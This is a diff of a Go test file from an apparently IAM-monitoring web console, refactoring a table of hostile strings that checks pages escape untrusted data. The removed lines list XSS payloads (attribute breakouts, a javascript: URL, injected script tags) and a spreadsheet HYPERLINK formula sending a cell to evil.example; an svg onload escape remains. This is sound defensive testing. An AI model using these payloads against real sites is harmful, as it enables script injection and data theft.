@@ -18,18 +18,14 @@ import (
 	"github.com/iamwatch/iamwatch"
 	"github.com/iamwatch/iamwatch/notify/notifytest"
 	"github.com/iamwatch/iamwatch/query"
+	"github.com/iamwatch/iamwatch/untrusted/untrustedtest"
 )
 
-// hostile is the sinks' table plus what matters in HTML attributes and URLs.
-func hostile() []struct{ Name, Value string } {
-	return append(notifytest.Hostile[:len(notifytest.Hostile):len(notifytest.Hostile)],
-		struct{ Name, Value string }{"attribute quote", `" autofocus onfocus="alert(3)" x="`},
-		struct{ Name, Value string }{"single quote", `' onmouseover='alert(4)`},
-		struct{ Name, Value string }{"javascript url", "javascript:alert(5)"},
-		struct{ Name, Value string }{"closing tags", `</td></tr></table></textarea></title><script>alert(6)</script>`},
-		struct{ Name, Value string }{"svg escape", `</text></svg><svg onload=alert(7)>`},
-		struct{ Name, Value string }{"spreadsheet formula", `=HYPERLINK("http://evil.example/?"&A1,"click")`},
-	)
+// hostile is the one table of hostile strings, plus an escape from the
+// console's server-drawn SVG charts.
+func hostile() []untrustedtest.String {
+	return append(untrustedtest.Strings[:len(untrustedtest.Strings):len(untrustedtest.Strings)],
+		untrustedtest.String{Name: "svg escape", Value: `</text></svg><svg onload=alert(7)>`})
 }
 
 // rawMarkup reports what must never reach a page from data, reading the
@@ -92,7 +88,11 @@ func TestHostileStringsEscaped(t *testing.T) {
 			Raw: rawRecord(id, h.Value),
 		})
 		a := notifytest.HostileAlert(h.Value)
-		a.DedupKey = fmt.Sprintf("hostile/%02d/%s", i, h.Value)
+		key := h.Value
+		if len(key) > 256 {
+			key = key[:256] // a dedup key is the rule and event IDs: bounded by the record, not 1 MB
+		}
+		a.DedupKey = fmt.Sprintf("hostile/%02d/%s", i, key)
 		a.EventIDs = []string{id}
 		a.Time = base.Add(time.Duration(i) * time.Minute)
 		alerts = append(alerts, a)
@@ -118,7 +118,7 @@ func TestHostileStringsEscaped(t *testing.T) {
 			note = note[:iamwatch.MaxTriageNote]
 		}
 		if r := c.post("/alert/triage", url.Values{"csrf": {c.csrf("/")}, "key": {a.DedupKey}, "status": {"acknowledged"}, "note": {note}}); r.status != http.StatusSeeOther {
-			t.Fatalf("triage %q: %d\n%s", a.DedupKey, r.status, r.body)
+			t.Fatalf("triage %.300q: %d\n%.2000s", a.DedupKey, r.status, r.body)
 		}
 	}
 	pages := []string{"/", "/alerts", "/alerts?status=acknowledged", "/events", "/events?errors=1", "/questions", "/rules"}
@@ -126,6 +126,9 @@ func TestHostileStringsEscaped(t *testing.T) {
 		pages = append(pages, "/question/"+q.Name+"?since=&until=&user=")
 	}
 	for _, h := range hs {
+		if len(h.Value) > 4096 {
+			continue // the 1 MB string does not fit a URL (1 MB of headers): it is on the pages through the store.
+		}
 		v := url.QueryEscape(h.Value)
 		pages = append(pages, "/alerts?rule="+v+"&actor="+v+"&account="+v, "/events?user="+v+"&source-ip="+v+"&event-name="+v,
 			"/alert?key="+v, "/signin?next="+v, "/actor?user="+v, "/question/user_lookup?since=&user="+v, "/question/root_usage?since="+v,
@@ -164,7 +167,9 @@ func TestHostileStringsEscaped(t *testing.T) {
 			continue
 		}
 		r := c.get("/alert?" + url.Values{"key": {alerts[i].DedupKey}}.Encode())
-		if esc := template.HTMLEscapeString(h.Value); !strings.Contains(r.body, esc) {
+		// html/template writes some characters (+) as entities where
+		// HTMLEscapeString does not: decode the page to find the text.
+		if esc := template.HTMLEscapeString(h.Value); !strings.Contains(r.body, esc) && !strings.Contains(html.UnescapeString(r.body), h.Value) {
 			t.Errorf("alert page of the %s string does not show it escaped (%q)", h.Name, esc)
 		}
 	}
